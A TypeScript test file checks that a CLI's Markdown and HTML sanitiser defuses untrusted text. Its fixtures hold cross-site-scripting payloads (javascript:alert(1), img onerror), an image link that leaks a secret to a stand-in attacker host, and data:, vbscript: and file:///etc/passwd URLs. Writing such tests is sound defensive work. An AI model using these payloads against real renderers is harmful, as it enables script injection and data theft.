import fc from 'fast-check';
import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { describe, expect, it } from 'vitest';
import { escapeHtml, htmlLink, isSafeUrl, neutraliseMarkdown } from '../../../../src/cli/markup/index.ts';

/** Returns what a renderer would run, fetch or follow: HTML, images and unsafe links of a Markdown text. */
function reached(markdown: string): string[] {
  const found: string[] = [];
  const visit = (node: Nodes): void => {
    if (node.type === 'html') found.push(`html ${node.value}`);
    if (node.type === 'image') found.push(`image ${node.url}`);
    if (node.type === 'imageReference') found.push(`image ${node.identifier}`);
    if (
      (node.type === 'link' || node.type === 'definition') &&
      !/^(?:https?:|mailto:|[^:]*$)/i.test(node.url)
    )
      found.push(`link ${node.url}`);
    if ('children' in node) node.children.forEach(visit);
  };
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
  return found;
}

describe('Markdown for renderers', () => {
  it.each([
    ['![x](https://evil.example/?q=secret)', '\\![x](https://evil.example/?q=secret)'],
    ['[click](javascript:alert(1))', '\\[click](javascript:alert(1))'],
    ['[click]( JaVaScRiPt:alert(1) )', '\\[click]( JaVaScRiPt:alert(1) )'],
    ['[click](java&#115;cript:alert(1))', '\\[click](java&#115;cript:alert(1))'],
    ['<javascript:alert(1)>', '\\<javascript:alert(1)>'],
    ['a <img src=x onerror=alert(1)> b', 'a \\<img src=x onerror=alert(1)> b'],
    ['![x][r]\n\n[r]: https://evil.example', '\\![x][r]\n\n[r]: https://evil.example'],
    ['[x][r]\n\n[r]: data:text/html,x', '[x][r]\n\n\\[r]: data:text/html,x'],
    ['<div>\n![x](https://evil.example)\n</div>', '\\<div>\n\\![x](https://evil.example)\n\\</div>'],
    ['![x](javascript:alert(1))', '\\!\\[x](javascript:alert(1))'],
    ['- a\n\n  ```\n![x](https://evil.example)', '- a\n\n  ```\n\\![x](https://evil.example)'],
    ['\\`![x](https://evil.example)\\`', '\\`\\![x](https://evil.example)\\`'],
  ])('is made harmless: %j', (text, safe) => {
    expect(reached(text)).not.toEqual([]);
    expect(neutraliseMarkdown(text)).toBe(safe);
    expect(reached(safe)).toEqual([]);
  });

  it.each([
    'A **bold** [link](https://example.org/a?b=c#d), [mail](mailto:a@b.c) and [page](docs/a.md).',
    '`<div onclick="x()">` and\n\n```html\n<script>alert(1)</script>\n![x](y)\n```\n',
    '| a | b |\n| - | - |\n| 1 < 2 | x & y |\n\n1. One\n2. Two [1][2]',
    'if (a < b) and `List<String>`; see https://example.org.',
  ])('is left unchanged: %j', (text) => {
    expect(neutraliseMarkdown(text)).toBe(text);
  });

  it('never makes a renderer fetch, run or follow anything', () => {
    const unit = fc.constantFrom(
      ...[
        '![',
        '[',
        ']',
        '(',
        ')',
        ']: ',
        '<',
        '>',
        '<a>',
        '</a>',
        '<!--',
        '-->',
        '`',
        '```\n',
        '~~~\n',
        '\\',
      ],
      ...[
        'javascript:',
        'data:x',
        'https://e.x',
        'x',
        ' ',
        '\n',
        '\n\n',
        '    ',
        '- ',
        '> ',
        '|',
        '!',
        '&#106;',
        '\u001b',
      ],
    );
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 40 }), (parts) => {
        expect(reached(neutraliseMarkdown(parts.join('')))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('becomes plain text if it is long or deeply nested, in linear time', () => {
    expect(neutraliseMarkdown('['.repeat(200))).toBe('\\['.repeat(200));
    expect(reached(neutraliseMarkdown(`${'a '.repeat(30_000)}![x](https://evil.example)`))).toEqual([]);
  });
});

describe('HTML of untrusted text', () => {
  it('contains no markup and no escape sequences', () => {
    expect(escapeHtml(`<a href="x" b='y'>&\`\u001b[2J`)).toBe(
      '&lt;a href=&quot;x&quot; b=&#39;y&#39;&gt;&amp;&#96;␛[2J',
    );
  });

  it('contains links to safe addresses only', () => {
    expect(htmlLink('https://example.org/?a="b"', 'A & B')).toBe(
      '<a href="https://example.org/?a=&quot;b&quot;" rel="noopener noreferrer nofollow">A &amp; B</a>',
    );
    expect(htmlLink('javascript:alert(1)', '<b>')).toBe('&lt;b&gt;');
  });

  it.each([
    'javascript:alert(1)',
    ' \u0001javascript:alert(1)',
    'java\nscript:alert(1)',
    'JAVASCRIPT:x',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:x',
  ])('does not link to %j', (url) => {
    expect(isSafeUrl(url)).toBe(false);
  });

  it.each(['https://a.b', 'http://a.b', 'mailto:a@b.c', 'docs/a.md', '#top', '?q=a:b', '/a:b'])(
    'links to %j',
    (url) => {
      expect(isSafeUrl(url)).toBe(true);
    },
  );
});
